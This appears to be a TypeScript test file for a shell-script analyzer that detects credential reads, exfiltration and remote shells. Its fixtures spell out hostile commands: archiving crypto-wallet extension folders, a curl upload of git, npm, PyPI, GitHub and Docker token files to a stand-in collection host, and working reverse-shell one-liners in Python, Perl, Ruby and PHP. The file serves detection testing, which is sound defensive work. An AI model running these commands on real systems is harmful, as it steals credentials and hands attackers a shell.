import assert from 'node:assert/strict';
import { it } from 'node:test';
import { walletExtensions } from '../knowledge/index.ts';
import { analyzeShellScript } from './shell-script.ts';

it('a script that reads any shipped wallet extension folder reads credentials, at that line', () => {
  for (const e of walletExtensions()) {
    const facts = analyzeShellScript(`#!/bin/sh\nset -e\ntar czf /tmp/w.tgz "$P/Local Extension Settings/${e.id}"\n`);
    assert.equal(facts.credentials?.line, 3, e.name);
    assert.equal(facts.credentials.sent, false);
  }
});

it('an extension id that is not a wallet, or a wallet id inside a longer word, is not a credential read', () => {
  // uBlock Origin's id, and MetaMask's id with a letter added.
  for (const id of ['cjpalhdlnbpafiamejdnhcphjbkeiagm', 'xnkbihfbeogaeaoehlefnkodbefgpgknn']) {
    assert.equal(analyzeShellScript(`#!/bin/sh\ncp -r "extensions/${id}" dist/\n`).credentials, undefined, id);
  }
});

it('a script that reads a token file from the home folder reads credentials; one that writes its own does not', () => {
  for (const path of ['~/.git-credentials', '$HOME/.npmrc', '${HOME}/.pypirc', '~/.config/gh/hosts.yml', '~/.docker/config.json']) {
    const facts = analyzeShellScript(`#!/bin/sh\nset -e\ncurl -s -F "f=@${path}" https://collect.example.invalid/u\n`);
    assert.equal(facts.credentials?.line, 3, path);
    assert.equal(facts.credentials.sent, true, path);
  }
  const ci = analyzeShellScript('#!/bin/sh\necho "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\nnpm publish\n');
  assert.equal(ci.credentials, undefined);
});

it('inline interpreter code that connects a socket and hands it to a shell opens a remote shell; a port check does not', () => {
  for (const cmd of [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`,
    `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3")'`,
    `php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
  ]) {
    assert.equal(analyzeShellScript(cmd).remoteShell?.line, 1, cmd);
  }
  for (const cmd of [
    `python3 -c 'import socket;s=socket.socket();s.settimeout(30);s.connect(("localhost",5432));s.close()'`,
    `python -c "import socket; print(socket.gethostname())" && /bin/sh ./scripts/test.sh`,
  ]) {
    assert.equal(analyzeShellScript(cmd).remoteShell, undefined, cmd);
  }
});
